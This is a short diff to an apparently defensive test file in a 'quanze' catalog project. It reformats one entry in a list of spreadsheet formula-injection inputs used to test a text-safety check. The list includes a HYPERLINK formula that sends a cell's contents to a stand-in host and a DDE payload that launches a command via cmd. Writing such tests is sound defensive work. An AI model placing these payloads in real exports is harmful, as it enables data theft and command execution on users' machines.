@@ -25,7 +25,7 @@ from quanze.catalog.tests.sheets import csv_file
 from quanze.core.textsafety import FORMULA_STARTS
 
 FORMULAS = [
-    "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
+    '=HYPERLINK("http://x.example/?"&A1,"点我")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
